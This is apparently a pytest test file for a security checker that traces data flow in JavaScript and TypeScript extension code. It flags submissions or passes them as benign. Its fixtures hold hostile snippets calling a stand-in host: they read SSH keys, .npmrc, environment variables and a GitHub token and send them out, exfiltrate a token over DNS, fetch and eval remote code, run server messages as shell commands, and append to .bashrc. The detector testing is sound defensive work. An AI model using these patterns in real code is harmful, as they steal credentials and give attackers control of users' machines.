"""Values are followed through JavaScript and TypeScript as through Python, and end where they should not."""

from __future__ import annotations

import pytest

from checks.security import flows
from devforge.model.observed import Missing, SourceFile, SourceTree
from devforge.model.submission import Submission
from tests.checks.example_trees import submission_of

SSH = "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8')"
NODE = "const fs = require('fs'), os = require('os'), path = require('path');\n"

# What the code does, and the rule and severity by which it is stopped.
STOPPED = {
    "a key is read in one function, packed in another, sent in a third": (
        {
            "index.js": f"{NODE}function read() {{ return {SSH}; }}\n"
            "const pack = (x) => Buffer.from(JSON.stringify({ x })).toString('base64');\n"
            "async function ship(body) { await fetch('https://c.example', { method: 'POST', body }); }\n"
            "exports.activate = async () => ship(pack(read()));\n"
        },
        ("credential-theft", "block"),
    ),
    "a key goes from module to module by require": (
        {
            "lib/keys.js": f"{NODE}module.exports = {{ get: () => {SSH} }};\n",
            "lib/out.js": "exports.send = (what) => fetch('https://c.example', { method: 'POST', body: what });\n",
            "index.js": "const keys = require('./lib/keys'); const { send: go } = require('./lib/out');\n"
            "exports.activate = () => go(keys.get());\n",
        },
        ("credential-theft", "block"),
    ),
    "a key goes from module to module by import, handed on under another name": (
        {
            "src/keys.ts": "import { readFileSync as r } from 'node:fs';\nimport * as os from 'os';\n"
            "export default function keys(): string { return r(`${os.homedir()}/.npmrc`, 'utf8') as string; }\n",
            "src/all.ts": "export { default as settings } from './keys.js';\nexport * from './out';\n",
            "src/out.ts": "export async function out<T>(x: T): Promise<void> { await fetch('https://c.example', { method: 'POST', body: String(x) }); }\n",
            "src/index.ts": "import { settings, out } from './all';\nexport function activate() { void out(settings()); }\n",
        },
        ("credential-theft", "block"),
    ),
    "a key waits in a field of a class": (
        {
            "index.js": f"{NODE}class Sync {{ #key; load() {{ this.#key = {SSH}; }}\n"
            "  async push() { const { request } = require('https'); const r = request({ hostname: 'c.example', method: 'POST' }); r.write(this.#key); r.end(); } }\n"
            "exports.activate = () => { const s = new Sync(); s.load(); s.push(); };\n"
        },
        ("credential-theft", "block"),
    ),
    "a key waits in another module's object": (
        {
            "state.js": "export const state = {};\n",
            "read.js": f"import fs from 'fs'; import os from 'os'; import path from 'path'; import {{ state }} from './state.js';\nstate.note = {SSH};\n",
            "index.js": "import './read.js';\nimport { state } from './state.js';\n"
            "export function activate() { const { note } = state; fetch('https://c.example', { method: 'POST', body: note }); }\n",
        },
        ("credential-theft", "block"),
    ),
    "a key is told as an event": (
        {
            "index.js": f"{NODE}const {{ EventEmitter }} = require('events'); const bus = new EventEmitter();\n"
            "bus.on('ready', (text) => fetch('https://c.example', { method: 'POST', body: text }));\n"
            f"exports.activate = () => bus.emit('ready', {SSH});\n"
        },
        ("credential-theft", "block"),
    ),
    "a key comes out of a promise": (
        {
            "index.js": f"{NODE}const later = () => new Promise((done) => fs.readFile(os.homedir() + '/.npmrc', 'utf8', (err, text) => done(text)));\n"
            "exports.activate = () => later().then((t) => t.trim()).then((body) => fetch('https://c.example', { method: 'POST', body }));\n"
        },
        ("credential-theft", "block"),
    ),
    "another program's login is printed and sent": (
        {
            "index.ts": "import { execFile } from 'child_process';\nimport { promisify } from 'util';\nconst run = promisify(execFile);\n"
            "export async function activate() { const { stdout } = await run('gh', ['auth', 'token']); await fetch('https://c.example', { method: 'POST', body: stdout }); }\n"
        },
        ("credential-theft", "block"),
    ),
    "the environment is spread, filtered and sent": (
        {
            "index.js": "const copy = { ...process.env };\nconst rows = Object.entries(copy).map(([k, v]) => `${k}=${v}`);\n"
            "exports.activate = () => { const s = require('net').connect(443, 'c.example'); s.write(rows.join('\\n')); };\n"
        },
        ("credential-theft", "block"),
    ),
    "a token leaves in a host's name": (
        {
            "index.js": "const dns = require('dns/promises');\nconst hex = (t) => Buffer.from(t).toString('hex');\n"
            "exports.activate = () => dns.lookup(`${hex(process.env.NPM_TOKEN)}.c.example`);\n"
        },
        ("hidden-channel", "block"),
    ),
    "code is fetched and run by an alias": (
        {
            "index.js": "const run = (0, eval);\nconst get = async (u) => (await fetch(u)).text();\n"
            "exports.activate = async () => { run(await get('https://c.example/x.js')); };\n"
        },
        ("download-and-run", "block"),
    ),
    "code is fetched in pieces and run by the maker of functions": (
        {
            "index.js": "const https = require('https');\nconst Maker = Object.getPrototypeOf(async function () {}).constructor;\n"
            "exports.activate = () => https.get('https://c.example', (res) => { let all = ''; res.on('data', (d) => { all += d; }); res.on('end', () => Reflect.construct(Maker, [all])()); });\n"
        },
        ("download-and-run", "block"),
    ),
    "code is fetched into a file and started": (
        {
            "index.js": f"{NODE}const file = path.join(os.tmpdir(), 'a.js');\n"
            "exports.activate = async () => { const r = await fetch('https://c.example'); await fs.promises.writeFile(file, await r.text()); require('child_process').fork(file); };\n"
        },
        ("download-and-run", "person"),
    ),
    "a decoded text is run": (
        {
            "index.js": "const open = (t) => Buffer.from(t, 'base64').toString();\nconst vm = require('vm');\n"
            "exports.activate = () => vm.runInThisContext(open('YWxlcnQoMSk='));\n"
        },
        ("hidden-code", "block"),
    ),
    "what a server answers is a command": (
        {
            "index.js": "const cp = require('child_' + 'process');\n"
            "exports.activate = () => { const ws = new WebSocket('wss://c.example'); ws.onmessage = (e) => cp.exec(e.data); };\n"
        },
        ("reverse-shell", "block"),
    ),
    "a project that is opened says what is loaded": (
        {
            "index.js": "import { pathToFileURL } from 'node:url';\nimport { join } from 'node:path';\n"
            "export async function activate({ workspace, output }) { const mine = workspace.files().filter((n) => /config[.]m?js$/.test(n));\n"
            "  for (const file of mine) { const { href } = pathToFileURL(join(workspace.root, file)); output.write((await import(href)).default.name); } }\n"
        },
        ("powers-together", "person"),
    ),
    "a project says what is required, by a loader that is anchored in it": (
        {
            "index.js": "import { createRequire } from 'node:module';\nimport { front } from './front.js';\n"
            "export function activate(context) { const { workspace } = context; const load = createRequire(`${workspace.root}/x`); load(front(workspace.read('deck.md')).theme); }\n",
            "front.js": "export const front = (text) => Object.fromEntries(text.split('\\n').map((line) => line.split(/: /)));\n",
        },
        ("powers-together", "person"),
    ),
    "a place that every shell reads is put together and written": (
        {
            "index.js": f"{NODE}const place = ['.ba', 'shrc'].join('');\nconst target = () => path.resolve(os.homedir(), place);\n"
            "const add = (file, text) => fs.appendFileSync(file, text);\nexports.activate = () => add(target(), 'x');\n"
        },
        ("persistence", "block"),
    ),
    "a table says what may be done, and an answer which of it, and to what": (
        {
            "tools.js": "import { execFile } from 'node:child_process';\nexport const tools = { say: (x) => x.join(' '), run: ([program, ...words]) => execFile(program, words) };\n",
            "index.js": "import { tools } from './tools.js';\nexport async function activate() { const acts = await (await fetch('https://c.example')).json();\n"
            "  for (const act of acts) tools[act.tool](act.input); }\n",
        },
        ("reverse-shell", "block"),
    ),
    "an answer goes over members and calls what it finds, which a test does with words of its own": (
        {
            "walk.js": "export const walk = (steps, from) => { let at = from; for (const [verb, ...rest] of steps) { const next = at[verb]; at = next.apply(at, rest); } return at; };\n",
            "index.js": "import { walk } from './walk.js';\nexport const activate = async () => walk(await (await fetch('https://c.example')).json(), 'x');\n",
            "test/walk.test.js": "import { walk } from '../src/walk.js';\nwalk([['trim']], ' a ');\n",
        },
        ("powers-together", "person"),
    ),
    "a file of the project that is opened names the program": (
        {
            "index.js": "import { readFileSync } from 'node:fs';\nimport { join } from 'node:path';\nimport { spawn } from 'node:child_process';\n"
            "export function activate({ workspace }) { const { command, args } = JSON.parse(readFileSync(join(workspace.root, '.tool.json'), 'utf8')); spawn(command, args); }\n"
        },
        ("powers-together", "person"),
    ),
}
HONEST = {
    "a file of the project that is opened names what a program is given": {
        "index.js": "import { readFileSync } from 'node:fs';\nimport { join } from 'node:path';\nimport { spawn } from 'node:child_process';\n"
        "export function activate({ workspace }) { const { files } = JSON.parse(readFileSync(join(workspace.root, 'list.json'), 'utf8')); spawn('wc', ['-l', ...files]); }\n"
    },
    "an answer chooses in a table that is written out": {
        "index.js": "const SHOWN = { title: (text) => text.trim(), list: (text) => text.split(',') };\n"
        "export const activate = async (context) => { for (const part of await (await fetch('https://c.example')).json()) context.output.write(SHOWN[part.kind](part.text)); };\n"
    },
    "members are called by symbols that another file hands out": {
        "symbols.js": "export const kOut = Symbol('out');\n",
        "index.js": "import { kOut } from './symbols.js';\nexport const open = new Set();\n"
        "export const activate = async () => { const answer = await (await fetch('https://c.example')).json();\n"
        "  for (const client of open) { client[kOut].push(answer); client[kOut](answer); } };\n",
    },
    "a token goes to its own service, in a header and in an address": {
        "api.ts": "const BASE = 'https://api.github.com';\nexport class Api { constructor(private token: string) {}\n"
        "  get(path: string) { return fetch(`${BASE}${path}`, { headers: { Authorization: `Bearer ${this.token}` } }); } }\n",
        "index.ts": "import { Api } from './api';\nexport const activate = () => new Api(process.env.GITHUB_TOKEN ?? '').get('/user');\n",
    },
    "an API is asked with a key of the user's, and the answer is shown": {
        "index.js": "const read = (settings) => ({ url: settings.url, key: settings.key });\n"
        "exports.activate = async ({ settings, output }) => { const { url, key } = read(settings);\n"
        "  const r = await fetch(url, { method: 'POST', headers: { 'x-key': key }, body: JSON.stringify({ q: 1 }) }); output.write(await r.text()); };\n"
    },
    "a program is started with the environment it stands in": {
        "index.js": "const { spawn } = require('child_process');\nconst env = { ...process.env, LANG: 'C' };\n"
        "exports.activate = () => spawn('git', ['status'], { env, cwd: process.cwd() });\n"
    },
    "settings below the home are read, and something else is sent": {
        "index.js": f"{NODE}const own = () => JSON.parse(fs.readFileSync(path.join(os.homedir(), '.config', 'sample.json')));\n"
        "exports.activate = () => fetch('https://c.example', { method: 'POST', body: JSON.stringify(own()) });\n"
    },
    "a project's settings are a module, by a name that the package spells out": {
        "index.js": "import { pathToFileURL } from 'node:url';\nimport { join } from 'node:path';\n"
        "export async function activate({ workspace, output }) { output.write((await import(pathToFileURL(join(workspace.root, 'lines.config.mjs')).href)).default.name); }\n",
    },
    "a file of the project is read, and shown by code of its own": {
        "index.js": "import { count } from './count.js';\nexport function activate({ workspace, output }) { output.write(count(workspace.read('a.md'))); }\n",
        "count.js": "export const count = (text) => String(text.split(' ').length);\n",
    },
    "an answer is kept in a file that nothing runs": {
        "index.js": f"{NODE}exports.activate = async () => {{ const r = await fetch('https://c.example/list.json');\n"
        "  fs.writeFileSync(path.join(os.tmpdir(), 'list.json'), await r.text()); };\n"
    },
    "a hash of a key says nothing of it": {
        "index.js": f"{NODE}const {{ createHash }} = require('crypto');\n"
        f"exports.activate = () => fetch('https://c.example/' + createHash('sha256').update({SSH}).digest('hex'));\n"
    },
}


def _found(files):
    submission: Submission = submission_of({"files": files})
    assert not isinstance(submission.vendored, Missing)
    return [(f.rule, f.severity) for f in flows.check(submission, ())]


@pytest.mark.parametrize("what", STOPPED)
def test_it_is_stopped_where(what):
    files, expected = STOPPED[what]
    assert expected in _found(files)


@pytest.mark.parametrize("what", HONEST)
def test_nobody_is_bothered_where(what):
    assert _found(HONEST[what]) == []


def test_both_ends_of_the_way_are_told():
    files, _ = STOPPED["a key goes from module to module by require"]
    (finding,) = flows.check(submission_of({"files": files}), ())
    assert (finding.at, finding.line) == ("lib/out.js", 1)
    assert "it comes from lib/keys.js, line 2" in finding.problem


@pytest.mark.parametrize(
    "deep",
    [
        "(" * 5_000 + "1" + ")" * 5_000,
        "[" * 5_000 + "]" * 5_000,
        "{" * 5_000 + "}" * 5_000,
        "f(" * 5_000 + ")" * 5_000,
        "a" + ".b()" * 5_000,
        "'a'" + "+'a'" * 5_000,
        "a||" * 5_000 + "a",
        "a?b:" * 5_000 + "c",
        "a=" * 5_000 + "1",
        "x => " * 5_000 + "1",
        "`${" * 3_000 + "1" + "}`" * 3_000,
        "if (a) {" * 5_000 + "}" * 5_000,
        "const " + "[" * 3_000 + "a" + "]" * 3_000 + " = b",
        "function f() {" * 3_000 + "}" * 3_000,
        "new " * 5_000 + "A",
        "!" * 5_000 + "a",
    ],
    ids=lambda text: text[:6],
)
def test_nothing_is_nested_deeply_enough_to_stop_the_review(deep):
    files = {"index.js": f"process.env;\n{deep};\n", "other.js": STOPPED_ALONE}
    assert ("download-and-run", "block") in _found(files)


STOPPED_ALONE = "fetch('https://c.example').then((r) => r.text()).then(eval);\n"


@pytest.mark.parametrize(
    "broken",
    [
        b"const = ; } process.env (((",
        b"\xff\xfe\x00process.env",
        b"class { constructor( process.env",
        b"import { from ; export * as ; export default",
        b"for (const of) ; try { } catch",
        b"({ get }) => { ...process.env }; `${",
    ],
)
def test_what_cannot_be_parsed_is_read_as_far_as_it_can_be(broken):
    tree = SourceTree(
        files={
            "a.js": SourceFile("a.js", "file", broken),
            "b.js": SourceFile("b.js", "file", STOPPED_ALONE.encode()),
        }
    )
    good = submission_of({"files": {}})
    found = flows.check(Submission(id=None, tree=tree, policy=good.policy), ())
    assert ("download-and-run", "block", "b.js") in [(f.rule, f.severity, f.at) for f in found]


def test_a_file_that_no_hand_has_written_is_left_to_the_other_rules():
    padding = f"const table = '{'x' * 20_000}';\n"
    assert _found({"index.js": padding + STOPPED_ALONE}) == []
    assert ("download-and-run", "block") in _found({"index.js": STOPPED_ALONE})


def test_more_scripts_than_there_is_room_for_ask_for_a_person():
    many = {f"lib/{number:02}.js": "let a;\n" * 80_000 for number in range(22)}
    found = flows.check(submission_of({"files": many}), ())
    assert [(f.rule, f.severity, f.at) for f in found] == [("unread-code", "person", "lib/21.js")]
